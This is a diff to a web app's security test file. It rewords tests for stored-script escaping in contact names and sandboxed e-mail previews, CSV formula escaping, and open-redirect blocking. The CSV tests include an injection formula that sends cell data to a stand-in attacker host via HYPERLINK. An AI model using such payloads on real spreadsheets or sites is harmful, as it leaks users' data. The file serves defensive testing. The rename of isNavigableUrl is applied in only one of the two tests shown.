@@ -31,7 +31,7 @@ describe('stored script in contact names shown in admin and mail', () => {
     expect('stolen' in window).toBe(false);
   };
 
-  it.each(SCRIPTS)('in the list of contacts it is text: %s', async (name) => {
+  it.each(SCRIPTS)('is shown as text in the list of contacts: %s', async (name) => {
     const contact = {
       ...contactOf({ fullName: name, firstName: name, company: name, jobTitle: name }),
       portalAccess: [],
@@ -44,34 +44,37 @@ describe('stored script in contact names shown in admin and mail', () => {
     expectText();
   });
 
-  it.each(SCRIPTS)('on the page of an invitation it is text, and its mail is shut in: %s', async (name) => {
-    const invitation = invitationOf({
-      contact: { id: 'contact-1', fullName: name, email: 'ada@example.com' },
-    });
-    server.on('GET /invitations/invitation-1', {
-      body: {
-        data: {
-          ...invitation,
-          timeline: [{ event: 'failed', at: '2026-11-20T09:29:00.000Z', actor: name, detail: name }],
-          emails: [
-            {
-              ...{ id: 'e', status: 'sent', active: false, to: 'ada@example.com', text: '', sentAt: null },
-              ...{ subject: name, html: name },
-            },
-          ],
+  it.each(SCRIPTS)(
+    'is shown as text on the invitation page, with the e-mail in a sandbox: %s',
+    async (name) => {
+      const invitation = invitationOf({
+        contact: { id: 'contact-1', fullName: name, email: 'ada@example.com' },
+      });
+      server.on('GET /invitations/invitation-1', {
+        body: {
+          data: {
+            ...invitation,
+            timeline: [{ event: 'failed', at: '2026-11-20T09:29:00.000Z', actor: name, detail: name }],
+            emails: [
+              {
+                ...{ id: 'e', status: 'sent', active: false, to: 'ada@example.com', text: '', sentAt: null },
+                ...{ subject: name, html: name },
+              },
+            ],
+          },
         },
-      },
-    });
-    const { user } = await renderAdmin(<InvitationPage />, {
-      at: '/invitations/invitation-1',
-      route: '/invitations/:id',
-    });
-    const buttons = await screen.findAllByRole('button');
-    await user.click(buttons.find((button) => button.textContent?.includes(name)) as HTMLElement);
-    const frame = document.querySelector('iframe');
-    expect(frame).toHaveAttribute('sandbox', '');
-    expectText();
-  });
+      });
+      const { user } = await renderAdmin(<InvitationPage />, {
+        at: '/invitations/invitation-1',
+        route: '/invitations/:id',
+      });
+      const buttons = await screen.findAllByRole('button');
+      await user.click(buttons.find((button) => button.textContent?.includes(name)) as HTMLElement);
+      const frame = document.querySelector('iframe');
+      expect(frame).toHaveAttribute('sandbox', '');
+      expectText();
+    }
+  );
 });
 
 describe('CSV formulas', () => {
@@ -86,11 +89,11 @@ describe('CSV formulas', () => {
     '=1\n+2',
     '＝1+1',
     '=HYPERLINK("https://evil.example.net?"&A1,"x")',
-  ])('what a spreadsheet would run is text in the file: %j', (value) => {
+  ])('are escaped in the file: %j', (value) => {
     expect(toCsv([[value]])).toBe(`"'${value.replaceAll('"', '""')}"`);
   });
 
-  it('a cell does not end before its end', () => {
+  it('cannot break out of a cell', () => {
     expect(toCsv([['a","=1+1', 'b\r\n=1+1']])).toBe('"a"",""=1+1","b\r\n=1+1"');
   });
 });
@@ -111,15 +114,15 @@ describe('open redirects', () => {
     'blob:https://www.example.com/x',
   ];
 
-  it.each(FORBIDDEN)('the element does not go to %j', (url) => {
+  it.each(FORBIDDEN)('are refused by the element: %j', (url) => {
     expect(safeUrl(url)).toBeNull();
   });
 
-  it.each(FORBIDDEN)('an editor cannot choose %j', (url) => {
-    expect(isNavigableUrl(url)).toBe(false);
+  it.each(FORBIDDEN)('are refused by the page picker: %j', (url) => {
+    expect(isFollowableUrl(url)).toBe(false);
   });
 
-  it('both go where a site leads its visitors', () => {
+  it('do not affect ordinary URLs of a site', () => {
     for (const url of ['/welcome?a=b#c', 'https://www.example.com/x', 'http://localhost:1337/']) {
       expect([safeUrl(url) === null, isNavigableUrl(url)]).toEqual([false, true]);
     }
